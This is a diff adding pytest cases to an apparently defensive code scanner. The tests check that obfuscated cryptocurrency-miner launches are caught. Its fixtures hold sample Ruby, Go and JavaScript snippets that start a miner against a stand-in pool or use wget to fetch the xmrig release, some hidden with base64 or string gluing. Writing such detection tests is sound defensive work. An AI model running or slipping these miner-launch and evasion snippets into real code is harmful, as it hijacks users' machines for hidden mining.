@@ -1898,3 +1898,42 @@ def test_a_cell_pasted_with_its_indentation_is_read_as_ipython_runs_it(engine, p
     cell = ("    import subprocess\n    # started in the background\n"
             f"    args = ['{program}',\n            '-o', 'pool.example.net:3333']\n    subprocess.Popen(args)\n")
     assert_miner_flagged(engine, cell, flagged)
+
+
+# ---------------------------------------------------------------------------
+# Programs in other languages: their literals read on their looks, glued by an operator or joined as an array
+
+def _release_b64() -> str:
+    return b64("https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz")
+
+
+FOREIGN = [
+    ("Ruby: a stratum address in base64", "require 'base64'\nurl = Base64.decode64('{x}')\n"
+     "exec('./minerd', '-a', 'scrypt', '-o', url, '-u', ENV['W'])", b64("stratum+tcp://pool.example.net:3333"),
+     b64("https://rubygems.org/gems/minerd-docs"), "crypto_mining"),
+    ("Go: a miner's release address in base64", "package main\nimport (\"encoding/base64\"; \"os/exec\")\n"
+     "func main() {{\n  u, _ := base64.StdEncoding.DecodeString(\"{x}\")\n  exec.Command(\"wget\", string(u)).Run()\n}}",
+     _release_b64(), b64("https://go.dev/dl/go1.22.0.linux-amd64.tar.gz"), "crypto_mining"),
+    ("JavaScript: a pool address glued from pieces", "const cp = require('child_process');\n"
+     "const pool = '{x}' + 'pool.' + 'example' + '.net:3333';\ncp.spawn(process.env.BIN, ['-o', pool, '-u', process.env.W]);",
+     "stra' + 'tum+tcp://", "https://docs.", "crypto_mining"),
+]
+
+
+@pytest.mark.parametrize("name, template, bad, good, category", FOREIGN, ids=[f[0] for f in FOREIGN])
+def test_literals_of_other_languages_are_read(engine, name, template, bad, good, category):
+    verdict = engine.check_code(template.format(x=bad), "text")
+    assert verdict.action in ("warn", "block") and verdict.category == category, verdict.to_dict()
+    assert engine.check_code(template.format(x=good), "text").action == "allow"
+
+
+@pytest.mark.parametrize("source, texts", [
+    ("x = ['tr', 'ans', 'mission'].join('-')", {"tr-ans-mission"}),
+    ("tool = %w[trans mission - cli].join", {"transmission-cli"}),
+    ('$t = ("xm","rig") -join ""', {"xmrig"}),
+    ("$t = 'po' . 'ol' . '.net';", {"pool.net"}),
+    ('f("-o", "pool")', set()),                       # arguments are not glued
+])
+def test_literals_glued_or_joined_in_other_languages(source, texts):
+    from nbwarden.analysis.unit import analyze
+    assert {f.value for f in analyze(source, "text").facts if f.kind == "text"} == texts
